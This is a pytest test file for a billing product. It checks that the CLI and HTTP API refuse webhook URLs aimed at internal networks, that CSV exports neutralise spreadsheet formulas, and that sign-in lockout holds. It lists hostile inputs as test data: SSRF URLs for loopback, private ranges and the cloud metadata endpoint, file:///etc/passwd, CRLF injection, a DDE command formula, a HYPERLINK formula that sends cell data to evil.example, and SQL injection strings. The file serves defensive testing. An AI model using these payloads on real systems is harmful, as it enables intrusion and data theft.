"""Hostile input at the edges of issue #13 §6: webhook URLs aimed at the operator's own network
(CLI and HTTP), spreadsheet formulas in every CSV the product writes, and sign-in guessing.

Every webhook case asserts the exact refusal (exit code and code, or status and problem type)
and that neither the stored events nor the webhook subscriptions changed. Nothing here relies
on real DNS: hosts are IP literals, ``localhost`` (the hosts file) or numeric forms the system
resolver reads without asking a server (``127.1``, ``2130706433``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from adapters.app.context import Services
from adapters.app.users import MAX_FAILURES, check_password
from adapters.csv_output import SafeCsvWriter, cell, neutralise
from adapters.portal.web import Portal
from adapters.webhooks.destinations import ALLOW_ENV, MAX_URL_LENGTH
from tests.e2e.conftest import Result
from tests.helpers import event_count
from tests.portal.conftest import anonymous, app, finance, portal, services  # noqa: F401
from tests.portal.support import PASSWORD, Browser, acme, issued

BAD_URL = "invalid_webhook_url"
REFUSED = "webhook_destination_refused"

MALFORMED = {
    "crlf-header-injection": "http://hooks.example.com/in\r\nX-Injected: 1",
    "bare-lf": "http://hooks.example.com/in\nHost: 127.0.0.1",
    "bare-cr": "http://hooks.example.com/in\r",
    "tab-in-host": "http://hooks.exa\tmple.com/",
    "nul-byte": "http://hooks.example.com/\x00",
    "space": "http://hooks.example.com/a b",
    "rtl-override": "http://hooks.example.com/\u202egnp.exe",
    "non-ascii-host": "http://hööks.example.com/",
    "ansi-escape": "http://hooks.example.com/\x1b[31m",
    "ftp-scheme": "ftp://hooks.example.com/in",
    "file-scheme": "file:///etc/passwd",
    "gopher-scheme": "gopher://127.0.0.1:25/_HELO",
    "javascript-scheme": "javascript:alert(1)",
    "no-scheme": "//hooks.example.com/in",
    "no-host": "http:///in",
    "userinfo": "http://user:secret@hooks.example.com/",
    "userinfo-host-trick": "http://hooks.example.com@127.0.0.1/",
    "backslash-trick": "http://127.0.0.1\\@hooks.example.com/",
    "port-too-big": "http://hooks.example.com:99999/",
    "port-zero": "http://hooks.example.com:0/",
    "port-not-a-number": "http://hooks.example.com:80a/",
    "ipv6-zone": "http://[fe80::1%25eth0]/",
    "over-long": "https://hooks.example.com/" + "a" * MAX_URL_LENGTH,
}

BLOCKED = {
    "loopback": "http://127.0.0.1:8000/hooks",
    "loopback-other": "http://127.9.9.9/",
    "loopback-short-form": "http://127.1/",
    "loopback-decimal": "http://2130706433/",
    "localhost": "http://localhost:8000/hooks",
    "localhost-upper-dot": "http://LOCALHOST./hooks",
    "ipv6-loopback": "http://[::1]/",
    "unspecified": "http://0.0.0.0:8000/",
    "ipv6-unspecified": "http://[::]/",
    "rfc1918-10": "http://10.0.0.1/",
    "rfc1918-172": "https://172.16.5.4/",
    "rfc1918-192": "http://192.168.1.1/admin",
    "aws-metadata": "http://169.254.169.254/latest/meta-data/",
    "aws-metadata-ipv6": "http://[fd00:ec2::254]/latest/meta-data/",
    "link-local": "http://169.254.1.1/",
    "cgnat": "http://100.64.0.1/",
    "multicast": "http://224.0.0.1/",
    "reserved": "http://240.0.0.1/",
    "broadcast": "http://255.255.255.255/",
    "documentation": "http://192.0.2.10/",
    "benchmarking": "http://198.18.0.1/",
    "ipv4-mapped-loopback": "http://[::ffff:127.0.0.1]/",
    "ipv4-mapped-private": "http://[::ffff:10.0.0.1]/",
    "ipv6-link-local": "http://[fe80::1]/",
    "ipv6-multicast": "http://[ff02::1]/",
    "ipv6-unique-local": "http://[fc00::1]/",
    "6to4-of-loopback": "http://[2002:7f00:1::]/",
    "nat64-of-metadata": "http://[64:ff9b::a9fe:a9fe]/",
}

CASES = [pytest.param(url, BAD_URL, id=name) for name, url in MALFORMED.items()] + [
    pytest.param(url, REFUSED, id=name) for name, url in BLOCKED.items()
]


@pytest.fixture(autouse=True)
def _default_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """The shipped default: no range allowed, whatever the developer's environment says."""
    monkeypatch.delenv(ALLOW_ENV, raising=False)


@pytest.fixture
def admin_api(app: Any, services: Services) -> Iterator[TestClient]:  # noqa: F811
    key = services.api_keys.create("ops", "admin")
    with TestClient(app, headers={"Authorization": f"Bearer {key}"}) as client:
        yield client


def _state(services: Services) -> tuple[int, int]:  # noqa: F811
    return event_count(services.ledger), len(services.webhooks.subscriptions(True))


# ------------------------------------------------------------------------- webhooks


@pytest.mark.parametrize(("url", "code"), CASES)
def test_cli_refuses_a_hostile_webhook_url(
    tollbook: Callable[..., Result],
    services: Services,  # noqa: F811
    url: str,
    code: str,
) -> None:
    acme(services.ledger)
    before = _state(services)
    result = tollbook("webhook", "add", url, "--json")
    assert result.code == 2, result.err
    [line] = result.err.strip().splitlines()
    assert line.startswith("error: ") and line.endswith(f"[{code}]"), line
    assert result.out == ""
    assert _state(services) == before


@pytest.mark.parametrize(("url", "code"), CASES)
def test_http_refuses_a_hostile_webhook_url(
    admin_api: TestClient,
    services: Services,  # noqa: F811
    url: str,
    code: str,
) -> None:
    acme(services.ledger)
    before = _state(services)
    response = admin_api.post("/webhooks", json={"url": url, "secret": "s" * 20})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert (problem["code"], problem["type"]) == (code, f"/problems/{code}")
    assert _state(services) == before


@pytest.mark.parametrize(
    "body",
    [
        pytest.param({"url": 5}, id="number"),
        pytest.param({"url": ["http://a.example/"]}, id="list"),
        pytest.param({"url": None}, id="null"),
        pytest.param({"url": ""}, id="empty"),
    ],
)
def test_http_refuses_a_webhook_url_that_is_not_a_string(
    admin_api: TestClient,
    services: Services,  # noqa: F811
    body: dict[str, Any],
) -> None:
    before = _state(services)
    response = admin_api.post("/webhooks", json=body)
    assert response.status_code == 422
    assert response.json()["code"] == "validation_error"
    assert _state(services) == before


def test_cli_refuses_an_empty_webhook_url(
    tollbook: Callable[..., Result],
    services: Services,  # noqa: F811
) -> None:
    before = _state(services)
    result = tollbook("webhook", "add", "")
    assert result.code == 2 and result.err.strip().endswith(f"[{BAD_URL}]")
    assert _state(services) == before


def test_a_stored_subscription_whose_host_turned_private_is_not_delivered_to(
    services: Services,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An allow range removed from the configuration stops deliveries at once: the address is
    checked at every delivery, not only when the subscription was added."""
    from adapters.webhooks.sender import HttpSender
    from adapters.webhooks.worker import WebhookWorker

    monkeypatch.setenv(ALLOW_ENV, "127.0.0.1/32")
    allowed = Services(ledger=services.ledger, db=services.db)  # reads the configuration
    allowed.webhooks.add("http://127.0.0.1:9/hooks", "s" * 20, [], 0, "test")
    monkeypatch.delenv(ALLOW_ENV)
    acme(services.ledger)
    before = event_count(services.ledger)

    report = WebhookWorker(services.ledger, services.webhooks, sender=HttpSender()).run_once()
    assert (report.delivered, report.failed_attempts) == (0, 1)
    [delivery] = services.webhooks.deliveries()
    assert delivery.last_error is not None
    assert delivery.last_error.startswith("destination refused, nothing sent")
    assert "127.0.0.1 is loopback" in delivery.last_error
    assert event_count(services.ledger) == before


# ------------------------------------------------------------------------------ CSV

FORMULAS = {
    "equals": "=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(A1:A9)",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "lone-minus": "-",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("value", FORMULAS.values(), ids=FORMULAS.keys())
def test_the_csv_helper_neutralises_a_formula_in_text_and_in_numeric_columns(
    value: str,
) -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out, ["text", "amount"], numeric=["amount"])
    writer.header()
    writer.row([value, value])
    writer.row(["-5.00 is text here", Decimal("-5.00")])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + value, "'" + value]
    assert rows[2] == ["'-5.00 is text here", "-5.00"]  # a negative amount stays a number
    assert neutralise("Acme =1") == "Acme =1" and cell(Decimal("-0.50"), numeric=True) == "-0.50"


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+44 Telecom", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example","x")'],
    ids=["equals", "plus", "minus", "at", "hyperlink"],
)
def test_the_flat_file_export_neutralises_formulas_and_keeps_amounts_numeric(
    tollbook: Callable[..., Result],
    services: Services,  # noqa: F811
    value: str,
) -> None:
    ledger = services.ledger
    ledger.register_customer(
        "test",
        account_number="EVIL",
        name=value,
        currency="GBP",
        tax_rate=Decimal(20),
        tax_description="VAT 20%",
        payment_terms_days=14,
    )
    invoice_id = ledger.create_invoice("EVIL", "test", memo=value)
    ledger.add_line(
        invoice_id, "test", description="x", quantity=Decimal(1), unit_price=Decimal("100.00")
    )
    number = ledger.issue_invoice(invoice_id, "test")
    ledger.issue_credit_note(number, "test", "goodwill", amount=Decimal("5.00"))
    ledger.record_payment(
        "EVIL", "test", amount=Decimal("10.00"), status="completed", reference=value
    )
    before = event_count(ledger)

    result = tollbook("export", "file", "--from", "2026-01-01", "--to", "2026-12-31")
    assert result.code == 0, result.err
    rows = {row["type"]: row for row in csv.DictReader(io.StringIO(result.out))}
    assert rows["invoice"]["customer_name"] == "'" + value
    assert rows["invoice"]["reference"] == "'" + value
    assert rows["payment"]["reference"] == "'" + value
    assert rows["credit_note"]["net"] == "-5.00"  # numbers stay numbers
    assert rows["credit_note"]["total"] == "-6.00"
    assert rows["invoice"]["total"] == "120.00"
    assert event_count(ledger) == before


@pytest.mark.parametrize("account", ["=CMD", "+ACME", "-ACME", "@ACME"])
def test_the_portal_invoice_download_neutralises_formulas(
    finance: Browser,  # noqa: F811
    services: Services,  # noqa: F811
    account: str,
) -> None:
    acme(services.ledger, account)
    issued(services.ledger, "50.00", account)
    before = event_count(services.ledger)
    response = finance.get("/portal/invoices.csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["customer"] == "'" + account
    assert (row["total"], row["amount_due"]) == ("60.00", "60.00")
    assert event_count(services.ledger) == before


@pytest.mark.parametrize("value", FORMULAS.values(), ids=FORMULAS.keys())
def test_the_usage_rejects_file_neutralises_formulas(
    tollbook: Callable[..., Result],
    services: Services,  # noqa: F811
    tmp_path: Path,
    value: str,
) -> None:
    acme(services.ledger)
    cdrs = tmp_path / "oct.csv"
    with cdrs.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(
            [
                "call_id",
                "account",
                "start_time",
                "duration",
                "billed_duration",
                "dialled_number",
                "destination_prefix",
                "destination",
                "rate_per_minute",
                "charge",
                "currency",
            ]
        )
        # an unknown account: the row is rejected with every field kept
        call = [value, "WHO", "2026-10-03T09:00:00Z", "60", "60", value, "44", value]
        writer.writerow([*call, "0.01", "0.01", "GBP"])
    before = event_count(services.ledger)
    result = tollbook("usage", "import", str(cdrs))
    assert result.code == 0, result.err
    with (tmp_path / "oct.rejects.csv").open(encoding="utf-8", newline="") as rejects:
        header, row = list(csv.reader(rejects))
    assert header[:2] == ["line", "reason"]
    fields = dict(zip(header, row, strict=True))
    assert fields["line"].isdigit()  # a number, left as it is
    # Tab and CR are unprintable: the rejects file writes them escaped (\x09), which no
    # spreadsheet reads as a formula; the other triggers get the leading quote.
    shown = value.replace("\t", "\\x09").replace("\r", "\\x0d")
    expected = shown if shown != value else "'" + value
    assert fields["call_id"] == fields["dialled_number"] == fields["destination"] == expected
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)
    assert event_count(services.ledger) == before


# -------------------------------------------------------------------------- sign-in


class _Counting:
    def __init__(self) -> None:
        self.checks = 0

    def __call__(self, password: str, stored: str) -> bool:
        self.checks += 1
        return check_password(password, stored)


@pytest.mark.parametrize(
    ("username", "password"),
    [
        pytest.param("fiona", PASSWORD, id="the-right-password"),
        pytest.param(" fiona ", PASSWORD, id="padded-name"),
        pytest.param("fiona\t", PASSWORD, id="tab-after-name"),
        pytest.param("fiona", "", id="empty-password"),
        pytest.param("fiona", "x" * 10_000, id="huge-password"),
        pytest.param("fiona", "' OR 1=1 --", id="sql-in-password"),
    ],
)
def test_a_locked_name_checks_no_password_whatever_is_sent(
    anonymous: Browser,  # noqa: F811
    portal: Portal,  # noqa: F811
    services: Services,  # noqa: F811
    username: str,
    password: str,
) -> None:
    counting = _Counting()
    portal.users.verify = counting
    for i in range(MAX_FAILURES):
        assert anonymous.sign_in("fiona", f"wrong guess {i}").status_code == 401
    before = (event_count(services.ledger), counting.checks)
    response = anonymous.sign_in(username, password)
    assert response.status_code == 429
    assert "Too many wrong passwords for this user name" in response.text
    assert (event_count(services.ledger), counting.checks) == before


@pytest.mark.parametrize(
    "username",
    ["fiona'--", "nobody", "=1+1", "FIONA", "a" * 64],
    ids=["sql-in-name", "unknown", "formula", "other-case", "longest"],
)
def test_unknown_names_are_locked_the_same_way(
    anonymous: Browser,  # noqa: F811
    portal: Portal,  # noqa: F811
    services: Services,  # noqa: F811
    username: str,
) -> None:
    counting = _Counting()
    portal.users.verify = counting
    before = event_count(services.ledger)
    statuses = [anonymous.sign_in(username, PASSWORD).status_code for _ in range(7)]
    assert statuses == [401] * MAX_FAILURES + [429, 429]
    assert counting.checks == MAX_FAILURES
    assert event_count(services.ledger) == before
    assert anonymous.sign_in("fiona").status_code == 303  # the real name is not locked


@pytest.mark.parametrize(
    "username",
    ["fiona\x00", "fi\x1bona", "fi\u202eona", "fi ona", "a" * 65, "a" * 100_000, ""],
    ids=["nul", "ansi-escape", "rtl-override", "inner-space", "too-long", "huge", "empty"],
)
def test_impossible_names_are_refused_without_a_check_or_a_count(
    anonymous: Browser,  # noqa: F811
    portal: Portal,  # noqa: F811
    services: Services,  # noqa: F811
    username: str,
) -> None:
    """No user can have these names, so there is nothing to guess or count (and a NUL byte,
    which PostgreSQL text cannot hold, never reaches the database)."""
    counting = _Counting()
    portal.users.verify = counting
    before = event_count(services.ledger)
    statuses = [anonymous.sign_in(username, PASSWORD).status_code for _ in range(7)]
    assert statuses == [401] * 7
    assert counting.checks == 0
    assert portal.users.sign_in_record(username).attempts == 0
    assert event_count(services.ledger) == before
